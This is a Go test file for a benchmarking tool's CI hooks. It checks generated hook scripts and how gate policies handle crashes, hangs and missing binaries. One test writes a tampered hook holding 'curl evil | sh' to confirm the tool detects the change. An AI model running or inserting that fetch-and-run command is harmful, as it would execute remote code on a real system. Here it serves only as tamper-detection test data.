package resources

import (
	"os"
	"os/exec"
	"strings"
	"testing"

	"github.com/SKaiNET-developers/benchctl/internal/expect"
	"github.com/SKaiNET-developers/benchctl/spec"
)

func TestHooksCompileTheSpec(t *testing.T) {
	t.Parallel()
	m, s := newLaneHost(t), laneSpec()
	s.Governor = &spec.Governor{Name: "performance", IfUnsupported: "skip"}
	s.Service.Needs, s.Gate.MaxLoad = []string{spec.NeedPerf}, 1.5
	k := hooks{newLaunch(s)}
	settle(t, m, k)
	e, err := expect.Load(m, expect.Current)
	if err != nil {
		t.Fatal(err)
	}
	if e.MaxLoad != 1.5 || e.JavaHome != laneJava || e.JavaVersion != "21" || e.Runner.Unit != laneUnit || len(e.Revision) != 16 {
		t.Errorf("the expectation is %+v", e)
	}
	want := []expect.Knob{
		{ID: "cpufreq", Files: governorKnob.files, Want: "performance", Offered: governorKnob.offered, Optional: true},
		{ID: "sysctl/kernel.perf_event_paranoid", Files: paranoidKnob.files, Want: "1", AtMost: true},
	}
	if len(e.Knobs) != 2 || e.Knobs[0] != want[0] || e.Knobs[1] != want[1] {
		t.Errorf("knobs %+v\nwant %+v", e.Knobs, want)
	}
	m.WriteFile(jobStarted.path(), "#!/bin/sh\ncurl evil | sh\n")
	wantOnly(t, diffOf(t, m, k), jobStarted.path(), "other text (sha256:02d8e966c08e)", digest(k.hookText(jobStarted)))
	settle(t, m, k)
}

// TestHookScripts runs them as the runner does, with a benchctl that ends as
// the case says.
func TestHookScripts(t *testing.T) {
	t.Parallel()
	for name, c := range map[string]struct {
		gate, binary  string
		status        int
		says, summary string
	}{
		"off never looks":           {"off", "echo looked", 0, "", ""},
		"warn passes":               {"warn", "echo fine", 0, "fine\n", ""},
		"warn survives a crash":     {"warn", "kill -SEGV $$", 0, "::warning title=benchctl gate::The gate came to no answer: it ended with status 139. Nobody", "it ended with status 139"},
		"warn survives a panic":     {"warn", "exit 2", 0, "::warning title=benchctl gate::The gate came to no answer: it ended with status 2. Nobody", "it ended with status 2"},
		"warn survives no gate":     {"warn", "", 0, "::warning title=benchctl gate::The gate came to no answer: it cannot be started.", "the spec says gate: warn"},
		"warn survives a hang":      {"warn", "exec sleep 600", 0, "it was not done after 1 seconds", "it was not done"},
		"fail passes":               {"fail", "echo fine", 0, "fine\n", ""},
		"fail fails and is quiet":   {"fail", "exit 2", 2, "", ""},
		"fail fails after an error": {"fail", "exit 1", 1, "::error title=benchctl gate::The gate came to no answer: it ended with status 1. Nobody", "status 1"},
		"fail fails without a gate": {"fail", "", 1, "::error title=benchctl gate::The gate came to no answer: it cannot be started.", "the spec says gate: fail"},
		"fail fails after a hang":   {"fail", "exec sleep 600", 1, "it was not done after 1 seconds", "it was not done"},
		"the gate knows all":        {"fail", `echo "$@"`, 0, "gate --job started --policy fail\n", ""},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			dir := t.TempDir()
			l := newLaunch(laneSpec())
			l.spec.Gate.Policy, l.binary = c.gate, dir+"/benchctl"
			if c.binary != "" {
				writeScript(t, l.binary, "#!/bin/sh\n"+c.binary+"\n")
			}
			script := dir + "/job-started.sh"
			// A hang is waited for ten times shorter than a job would wait.
			short := strings.NewReplacer("--kill-after=5 10 ", "--kill-after=5 1 ", "after 10 seconds", "after 1 seconds")
			writeScript(t, script, short.Replace(l.hookText(jobStarted)))
			cmd := exec.Command("bash", "-e", script)
			cmd.Env = []string{"PATH=" + os.Getenv("PATH"), "GITHUB_STEP_SUMMARY=" + dir + "/summary"}
			out, err := cmd.Output()
			if got := cmd.ProcessState.ExitCode(); got != c.status {
				t.Errorf("the hook ended with %d (%v), want %d", got, err, c.status)
			}
			if !strings.Contains(string(out), c.says) || c.says == "" && len(out) > 0 {
				t.Errorf("the hook said %q, want %q", out, c.says)
			}
			summary, _ := os.ReadFile(dir + "/summary")
			if !strings.Contains(string(summary), c.summary) || c.summary == "" && len(summary) > 0 {
				t.Errorf("the summary is %q, want %q", summary, c.summary)
			}
		})
	}
}

func writeScript(t *testing.T, path, text string) {
	t.Helper()
	if err := os.WriteFile(path, []byte(text), 0o755); err != nil {
		t.Fatal(err)
	}
}
